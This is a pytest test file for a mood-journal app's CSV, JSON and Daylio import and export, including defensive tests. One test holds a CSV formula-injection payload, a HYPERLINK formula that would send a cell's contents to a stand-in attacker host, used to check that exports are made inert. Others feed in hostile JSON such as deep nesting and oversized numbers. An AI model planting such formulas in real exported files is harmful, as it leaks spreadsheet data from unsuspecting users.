"""Journal import and export: our CSV and JSON keep every field, Daylio's export is read with the
person's own mood names, and every bad row is reported with the row number a spreadsheet shows."""

import csv
import io
import json
import operator
from dataclasses import replace
from datetime import UTC, date, datetime, time, timedelta, timezone
from zoneinfo import ZoneInfo

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from crossroads.journal.rules.coping import CopingKind
from crossroads.journal.rules.entries import EMOTIONS, Entry, EntryKind, Situation, plan_entry
from crossroads.journal.rules.exchange import (
    COLUMNS,
    entries_from_csv,
    entries_from_daylio,
    entries_from_json,
    entries_to_csv,
    entries_to_json,
    parse_mood_map,
    read_json,
)
from crossroads.kernel.errors import MAX_PROBLEMS, ImportProblems, InvalidInput

PARIS = ZoneInfo("Europe/Paris")
HEADER = ",".join(COLUMNS)
DAYLIO_HEADER = "full_date,date,weekday,time,mood,activities,note_title,note"
MOODS = {"rad": 10, "good": 7, "meh": 5, "bad": 3, "awful": 1}
EVENING = datetime(2024, 3, 5, 21, 30, tzinfo=timezone(timedelta(hours=1)))


def full_entry() -> Entry:
    """An entry with every field set away from its default."""
    return Entry(
        at=EVENING,
        mood=4,
        emotions=("anxious", "tired", "wobbly"),
        situation=Situation.WORK,
        what_happened='The review ran late, and my manager said "we will talk tomorrow".',
        coping=(CopingKind.MOVEMENT, CopingKind.SUPPORT),
        own_coping="Cooked something slow",
        own_coping_kind=CopingKind.REST,
        corrected=True,
        helped=6,
        note="Two lines:\nthe second one, with a comma",
        kind=EntryKind.ENTRY,
    )


def thought_record() -> Entry:
    return Entry(
        at=datetime(2024, 3, 6, 8, 0, tzinfo=UTC),
        mood=None,
        kind=EntryKind.THOUGHT_RECORD,
        answers={"thought": "I always get it wrong", "before": "80", "after": "45"},
    )


def quick_entry() -> Entry:
    return Entry(at=datetime(2024, 7, 1, 12, 0, tzinfo=PARIS), mood=7)


HISTORY = [full_entry(), thought_record(), quick_entry()]


def our_csv(*rows: str) -> str:
    return "\n".join([HEADER, *rows]) + "\n"


def row(**cells: str) -> str:
    """A row of our CSV: a quick entry at noon UTC with mood 5, changed by `cells`."""
    values = dict.fromkeys(COLUMNS, "") | {"at": "2024-03-05T12:00:00+00:00", "mood": "5"}
    out = io.StringIO()
    csv.writer(out).writerow((values | cells).values())
    return out.getvalue().removesuffix("\r\n")


def daylio(*rows: str, bom: bool = False) -> str:
    return ("\ufeff" if bom else "") + "\n".join([DAYLIO_HEADER, *rows]) + "\n"


def problems_of(error: pytest.ExceptionInfo[ImportProblems]) -> list[tuple[int, str]]:
    return error.value.problems


# Our own format


def test_our_csv_round_trips_every_field() -> None:
    assert entries_from_csv(entries_to_csv(HISTORY)) == HISTORY


def test_our_json_round_trips_every_field() -> None:
    items = json.loads(json.dumps(entries_to_json(HISTORY)))
    assert entries_from_json(items) == HISTORY


def test_our_csv_has_a_fixed_header_and_plain_cells() -> None:
    lines = entries_to_csv([full_entry(), thought_record()]).splitlines()
    assert lines[0] == HEADER
    assert lines[1].startswith("2024-03-05T21:30:00+01:00,entry,4,anxious; tired; wobbly,work,")
    assert ",movement; support,Cooked something slow,rest,true,6," in lines[1]
    assert lines[-1].startswith("2024-03-06T08:00:00+00:00,thought_record,,,,,,,,false,,,")


def test_our_json_holds_only_plain_json_values() -> None:
    [item] = entries_to_json([full_entry()])
    assert item["at"] == "2024-03-05T21:30:00+01:00"
    assert item["emotions"] == ["anxious", "tired", "wobbly"]
    assert item["coping"] == ["movement", "support"]
    assert item["own_coping_kind"] == "rest"
    assert list(item) == list(COLUMNS)


def test_a_zone_becomes_its_utc_offset_at_that_moment() -> None:
    summer = Entry(at=datetime(2024, 7, 1, 12, 0, tzinfo=PARIS), mood=7)
    [item] = entries_to_json([summer])
    assert item["at"] == "2024-07-01T12:00:00+02:00"


def test_cells_are_read_the_way_the_journal_reads_a_form() -> None:
    [entry] = entries_from_csv(
        our_csv(row(emotions=" Sad;calm ;; ", coping="rest;rest", note="  kept  ", corrected=""))
    )
    assert entry.emotions == ("sad", "calm")
    assert entry.coping == (CopingKind.REST,)
    assert entry.note == "kept"
    assert entry.corrected is False


def test_a_json_entry_needs_only_its_time_and_mood() -> None:
    [entry] = entries_from_json([{"at": "2024-03-05T12:00:00+00:00", "mood": 5}])
    assert entry == Entry(at=datetime(2024, 3, 5, 12, 0, tzinfo=UTC), mood=5)


@pytest.mark.parametrize(
    ("cells", "problem"),
    [
        ({"mood": "11"}, "mood: choose a number from 0 to 10"),
        ({"mood": "-1"}, "mood: choose a number from 0 to 10"),
        ({"mood": ""}, "mood: choose how you feel, from 0 to 10"),
        ({"mood": "seven"}, "mood: write a number"),
        ({"mood": "7.5"}, "mood: write a whole number"),
        ({"helped": "11"}, "helped: choose a number from 0 to 10"),
        ({"coping": "rest; sulking"}, "coping: 'sulking' is not one of the listed ways of coping"),
        ({"own_coping_kind": "nap"}, "own_coping_kind: 'nap' is not one of the listed ways"),
        ({"situation": "space"}, "situation: choose one of the listed situations"),
        ({"kind": "dream"}, "kind: choose one of entry, thought_record, grief, self_compassion"),
        ({"at": "2024-03-05T12:00:00"}, "at: write the time with its UTC offset"),
        ({"at": "yesterday"}, "at: write the time with its UTC offset"),
        ({"corrected": "maybe"}, "corrected: write true or false"),
        ({"answers": "{not json"}, "answers: write a JSON object"),
        ({"answers": '["a list"]'}, "answers: write each answer as text"),
        ({"emotions": "; ".join(f"word{n}" for n in range(6))}, "emotions: add at most 5"),
    ],
)
def test_a_bad_cell_is_named_with_its_row(cells: dict[str, str], problem: str) -> None:
    with pytest.raises(ImportProblems) as error:
        entries_from_csv(our_csv(row(), row(**cells)))
    [(number, text)] = problems_of(error)
    assert number == 3
    assert text.startswith(problem)


def test_bad_rows_are_all_reported_with_their_row_numbers() -> None:
    text = our_csv(
        row(mood="11"),
        row(note="a note written\nover two lines"),  # still one row in a spreadsheet
        row(),
        row(coping="sulking"),
        "",
        row(kind="dream"),
        "2024-03-05T12:00:00+00:00,entry,5",
    )
    with pytest.raises(ImportProblems) as error:
        entries_from_csv(text)
    assert [number for number, _ in problems_of(error)] == [2, 5, 7, 8]
    assert problems_of(error)[-1] == (8, "expected 13 cells, found 3")
    assert "row 2: mood: choose a number from 0 to 10" in str(error.value)


def test_problems_stop_at_twenty_and_say_how_many_more() -> None:
    with pytest.raises(ImportProblems) as error:
        entries_from_csv(our_csv(*[row(mood="11")] * (MAX_PROBLEMS + 5)))
    assert len(problems_of(error)) == MAX_PROBLEMS
    assert error.value.more == 5
    assert str(error.value).endswith("and 5 more problems")


def test_import_problems_are_invalid_input_about_the_file() -> None:
    with pytest.raises(InvalidInput) as error:
        entries_from_csv(our_csv(row(mood="11")))
    assert error.value.field == "file"


@pytest.mark.parametrize("text", ["", "\ufeff", HEADER, HEADER + "\n\n,,,\n"])
def test_an_empty_file_is_a_problem(text: str) -> None:
    with pytest.raises(ImportProblems):
        entries_from_csv(text)


def test_a_csv_with_the_wrong_header_says_which_columns_it_expected() -> None:
    with pytest.raises(ImportProblems) as error:
        entries_from_csv("at,mood\n2024-03-05T12:00:00+00:00,5\n")
    assert problems_of(error) == [(1, f"expected the columns {HEADER}")]


def test_our_csv_read_back_after_a_spreadsheet_added_a_bom() -> None:
    assert entries_from_csv("\ufeff" + entries_to_csv(HISTORY)) == HISTORY


def test_json_that_is_not_a_list_of_entries_is_refused() -> None:
    for items in ({"entries": []}, "text", []):
        with pytest.raises(ImportProblems):
            entries_from_json(items)


def test_json_entries_of_the_wrong_shape_are_named_by_their_place() -> None:
    good = {"at": "2024-03-05T12:00:00+00:00", "mood": 5}
    items = [good, "an entry?", good | {"mood": True}, good | {"emotions": "sad"}, good | {"x": 1}]
    with pytest.raises(ImportProblems) as error:
        entries_from_json(items)
    assert problems_of(error) == [
        (2, "each entry should be an object of named fields"),
        (3, "mood: write a whole number"),
        (4, "emotions: write a list of words"),
        (5, "unknown fields: x"),
    ]
    assert "entry 3: mood: write a whole number" in str(error.value)


def test_an_exercise_keeps_its_answers_without_a_mood_but_an_entry_needs_one() -> None:
    assert entries_from_csv(entries_to_csv([thought_record()]))[0].mood is None
    with pytest.raises(ImportProblems):
        entries_from_json([entries_to_json([thought_record()])[0] | {"kind": "entry"}])


# Real offsets are whole minutes; Python 3.11 drops a fraction of a second from an offset it reads.
offsets = st.integers(-23 * 60, 23 * 60).map(lambda minutes: timezone(timedelta(minutes=minutes)))
own_words = st.text(st.characters(exclude_characters=";"), min_size=1, max_size=20)
# Some texts start as a spreadsheet formula would, or with the apostrophe that disarms one.
texts = st.text(max_size=60) | st.builds(
    operator.add, st.sampled_from(["=", "+", "-", "@", "'", "'="]), st.text(max_size=30)
)


@st.composite
def entries(draw: st.DrawFn) -> Entry:
    """Valid entries: checked by plan_entry, then given the fields only the app sets."""
    kind = draw(st.sampled_from(EntryKind))
    planned = plan_entry(
        at=draw(
            st.datetimes(
                min_value=datetime(1990, 1, 1),  # noqa: DTZ001  (bounds are naive by design)
                max_value=datetime(2100, 1, 1),  # noqa: DTZ001
                timezones=offsets,
            )
        ),
        mood=draw(st.integers(0, 10)),
        emotions=draw(st.lists(st.sampled_from(EMOTIONS))) + draw(st.lists(own_words, max_size=5)),
        situation=draw(st.sampled_from(["", *Situation])),
        what_happened=draw(texts),
        coping=draw(st.lists(st.sampled_from(CopingKind))),
        own_coping=draw(texts),
        helped=draw(st.none() | st.integers(0, 10)),
        note=draw(texts),
    )
    exercise = kind is not EntryKind.ENTRY
    return replace(
        planned,
        kind=kind,
        mood=None if exercise and draw(st.booleans()) else planned.mood,
        own_coping_kind=draw(st.none() | st.sampled_from(CopingKind)),
        corrected=draw(st.booleans()),
        answers=draw(
            st.dictionaries(st.text(min_size=1).filter(str.strip), texts.map(str.strip))
            if exercise
            else st.just({})
        ),
    )


@settings(database=None)
@given(st.lists(entries(), min_size=1, max_size=4))
def test_any_valid_history_round_trips_through_csv_and_json(history: list[Entry]) -> None:
    from_csv = entries_from_csv(entries_to_csv(history))
    assert from_csv == history
    assert entries_from_json(json.loads(json.dumps(entries_to_json(history)))) == history
    assert not any(cell.startswith(FORMULA_STARTS) for cell in cells_of(entries_to_csv(history)))
    # Aware times compare by instant; the offset the person wrote in is kept as well.
    assert [entry.at.utcoffset() for entry in from_csv] == [
        entry.at.utcoffset() for entry in history
    ]


# Formulas in our CSV

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def cells_of(text: str) -> list[str]:
    return [cell for record in csv.reader(io.StringIO(text)) for cell in record]


def test_formulas_are_written_inert_and_read_back_as_written() -> None:
    attack = replace(
        full_entry(),
        emotions=("@sum(1+1)", "calm"),
        what_happened='=HYPERLINK("https://attacker.example/?q="&A1,"Click for help")',
        own_coping="+1 walk",
        note="-2 cups of coffee",
    )
    quoted = replace(quick_entry(), note="'=already quoted", what_happened="'a quote first")

    text = entries_to_csv([attack, quoted])

    assert not any(cell.startswith(FORMULA_STARTS) for cell in cells_of(text))
    assert "'=HYPERLINK(\"https://attacker.example/" in "".join(cells_of(text))
    assert entries_from_csv(text) == [attack, quoted]


def test_an_apostrophe_someone_typed_before_a_word_is_kept() -> None:
    [entry] = entries_from_csv(our_csv(row(note="'tis the season")))
    assert entry.note == "'tis the season"


# Hostile files


@pytest.mark.parametrize(
    ("text", "problem"),
    [
        ("[" * 5000 + "]" * 5000, "nested too deeply"),
        ("[" * 17 + "]" * 17, "nested too deeply"),
        ('[{"at": "2024-03-05T12:00:00+00:00", "mood": ' + "7" * 5000 + "}]", "20 digits"),
        ('[{"mood": 1e400}]', "too long or too large"),
        ('[{"mood": NaN}]', "NaN is not a number"),
        ('[{"mood": -Infinity}]', "-Infinity is not a number"),
        ('[{"note": "a cut emoji \\ud83d"}]', "half of a character"),
        ('[{"note": "ok", "\\udfff": 1}]', "half of a character"),
        ("[1, 2", "this is not JSON"),
    ],
)
def test_hostile_json_is_refused_naming_the_file(text: str, problem: str) -> None:
    with pytest.raises(InvalidInput, match=problem) as error:
        read_json(text, "file")
    assert error.value.field == "file"


def test_a_whole_emoji_and_ordinary_numbers_are_read() -> None:
    assert read_json('[{"note": "\\ud83d\\ude00", "mood": -7, "x": 2.5}]', "file") == [
        {"note": "\N{GRINNING FACE}", "mood": -7, "x": 2.5}
    ]


@pytest.mark.parametrize(
    ("cells", "problem"),
    [
        ({"mood": "7" * 5000}, "mood: write a number"),
        ({"answers": "[" * 5000 + "]" * 5000}, "answers: lists and objects are nested too deeply"),
        ({"answers": '{"thought": ' + "9" * 5000 + "}"}, "answers: a number is longer"),
    ],
)
def test_hostile_cells_are_named_with_their_row(cells: dict[str, str], problem: str) -> None:
    with pytest.raises(ImportProblems) as error:
        entries_from_csv(our_csv(row(**cells)))
    [(number, text)] = problems_of(error)
    assert (number, text[: len(problem)]) == (2, problem)


def test_more_rows_than_allowed_is_one_problem() -> None:
    text = our_csv(row(), row(), row())
    items = entries_to_json([quick_entry()] * 3)
    days = daylio(*["2024-03-05,March 5,Tuesday,21:30,good,,,"] * 3)
    for read in (
        lambda: entries_from_csv(text, most=2),
        lambda: entries_from_json(items, most=2),
        lambda: entries_from_daylio(days, MOODS, PARIS, most=2),
    ):
        with pytest.raises(ImportProblems, match="up to 2 at a time"):
            read()
    assert len(entries_from_csv(text, most=3)) == 3


# Daylio


def test_daylio_moods_are_mapped_by_name_never_guessed() -> None:
    text = daylio(
        "2024-03-05,March 5,Tuesday,21:30,good,walk | friends,A good evening,Dinner at Sam's",
        "2024-03-04,March 4,Monday,08:15,awful,,,",
    )
    evening, morning = entries_from_daylio(text, MOODS, PARIS)
    assert evening == Entry(
        at=datetime(2024, 3, 5, 21, 30, tzinfo=PARIS),
        mood=7,
        what_happened="Activities: walk, friends",
        note="A good evening\nDinner at Sam's",
    )
    assert morning == Entry(at=datetime(2024, 3, 4, 8, 15, tzinfo=PARIS), mood=1)


def test_a_mood_the_map_gives_a_different_place_follows_the_map() -> None:
    text = daylio("2024-03-05,March 5,Tuesday,21:30,rad,,,")
    [entry] = entries_from_daylio(text, {"rad": 6}, PARIS)
    assert entry.mood == 6


def test_every_unmapped_daylio_mood_is_named_at_once() -> None:
    text = daylio(
        "2024-03-05,March 5,Tuesday,21:30,rad,,,",
        "2024-03-04,March 4,Monday,21:30,Sleepy,,,",
        "2024-03-03,March 3,Sunday,21:30,grumpy,,,",
        "2024-03-02,March 2,Saturday,21:30,sleepy,,,",
        "2024-03-01,March 1,Friday,25:00,rad,,,",
    )
    with pytest.raises(ImportProblems) as error:
        entries_from_daylio(text, {"rad": 10}, PARIS)
    assert problems_of(error) == [
        (3, "map these moods: Sleepy, grumpy"),
        (6, "time: write the time as 21:30 or 9:30 PM"),
    ]


def test_a_renamed_daylio_mood_maps_case_insensitively() -> None:
    text = daylio("2024-03-05,March 5,Tuesday,21:30,Over The Moon,,,")
    [entry] = entries_from_daylio(text, {"over the MOON": 9}, PARIS)
    assert entry.mood == 9


@pytest.mark.parametrize(
    ("written", "read"),
    [
        ("21:30", time(21, 30)),
        ("9:30 PM", time(21, 30)),
        ("9:30 pm", time(21, 30)),
        ("9:30pm", time(21, 30)),
        ("9:30\u202fPM", time(21, 30)),  # the narrow space newer phones put before AM/PM
        ("9:30 a.m.", time(9, 30)),
        ("12:05 AM", time(0, 5)),
        ("12:05 PM", time(12, 5)),
        ("07:45:10", time(7, 45, 10)),
    ],
)
def test_daylio_twelve_hour_times_and_a_bom_are_read(written: str, read: time) -> None:
    text = daylio(f"2024-03-05,March 5,Tuesday,{written},meh,,,", bom=True)
    [entry] = entries_from_daylio(text, MOODS, PARIS)
    assert entry.at == datetime.combine(date(2024, 3, 5), read, tzinfo=PARIS)


@pytest.mark.parametrize("written", ["24:00", "13:00 PM", "0:30 AM", "9.30", "noon", ""])
def test_a_daylio_time_that_is_no_time_is_reported(written: str) -> None:
    with pytest.raises(ImportProblems) as error:
        entries_from_daylio(daylio(f"2024-03-05,March 5,Tuesday,{written},meh,,,"), MOODS, PARIS)
    assert problems_of(error) == [(2, "time: write the time as 21:30 or 9:30 PM")]


def test_daylio_times_are_local_to_the_persons_zone() -> None:
    text = daylio(
        "2024-07-05,July 5,Friday,21:30,meh,,,", "2024-01-05,January 5,Friday,21:30,meh,,,"
    )
    summer, winter = entries_from_daylio(text, MOODS, PARIS)
    assert summer.at.utcoffset() == timedelta(hours=2)
    assert winter.at.utcoffset() == timedelta(hours=1)
    assert summer.at.hour == winter.at.hour == 21


def test_an_older_daylio_export_without_note_titles_is_read() -> None:
    text = (
        "full_date,date,weekday,time,mood,activities,note\n"
        "2024-03-05,March 5,Tuesday,21:30,bad,work,Long day\n"
    )
    [entry] = entries_from_daylio(text, MOODS, PARIS)
    assert (entry.mood, entry.what_happened, entry.note) == (3, "Activities: work", "Long day")


def test_a_daylio_note_alone_or_a_title_alone_is_the_note() -> None:
    text = daylio(
        "2024-03-05,March 5,Tuesday,21:30,meh,,Only a title,",
        "2024-03-04,March 4,Monday,21:30,meh,,,Only a note",
    )
    titled, noted = entries_from_daylio(text, MOODS, PARIS)
    assert (titled.note, noted.note) == ("Only a title", "Only a note")


def test_a_file_that_is_not_a_daylio_export_says_which_columns_it_expected() -> None:
    with pytest.raises(ImportProblems) as error:
        entries_from_daylio(entries_to_csv(HISTORY), MOODS, PARIS)
    assert problems_of(error) == [(1, f"expected Daylio's columns {DAYLIO_HEADER}")]


@pytest.mark.parametrize("text", ["", DAYLIO_HEADER + "\n"])
def test_an_empty_daylio_export_is_a_problem(text: str) -> None:
    with pytest.raises(ImportProblems):
        entries_from_daylio(text, MOODS, PARIS)


def test_a_bad_daylio_date_is_reported() -> None:
    with pytest.raises(ImportProblems) as error:
        entries_from_daylio(daylio("05/03/2024,March 5,Tuesday,21:30,meh,,,"), MOODS, PARIS)
    [(number, problem)] = problems_of(error)
    assert (number, problem.split(":")[0]) == (2, "full_date")


# The mood map


def test_a_mood_map_is_read_from_name_number_pairs() -> None:
    assert parse_mood_map("rad=10, good=7, Meh = 5, bad=3, awful=1,") == MOODS


@pytest.mark.parametrize("text", ["rad=11", "rad=-1", "good=7, awful=100", "rad=" + "9" * 5000])
def test_a_mood_map_with_a_value_out_of_range_is_refused(text: str) -> None:
    with pytest.raises(InvalidInput, match="use numbers from 0 to 10") as error:
        parse_mood_map(text)
    assert error.value.field == "mood_map"
    assert len(str(error.value)) < 100


@pytest.mark.parametrize(
    ("text", "problem"),
    [
        ("rad", "as a name, =, and a number"),
        ("rad=ten", "as a name, =, and a number"),
        ("rad=1=2", "as a name, =, and a number"),
        ("rad=7.5", "as a name, =, and a number"),
        ("=7", "a mood name before the ="),
        ("rad=10, good=7, RAD=9", "RAD is given twice"),
        ("", "name each mood and its number"),
        (" , ", "name each mood and its number"),
    ],
)
def test_a_mood_map_that_cannot_be_read_is_refused(text: str, problem: str) -> None:
    with pytest.raises(InvalidInput, match=problem) as error:
        parse_mood_map(text)
    assert error.value.field == "mood_map"
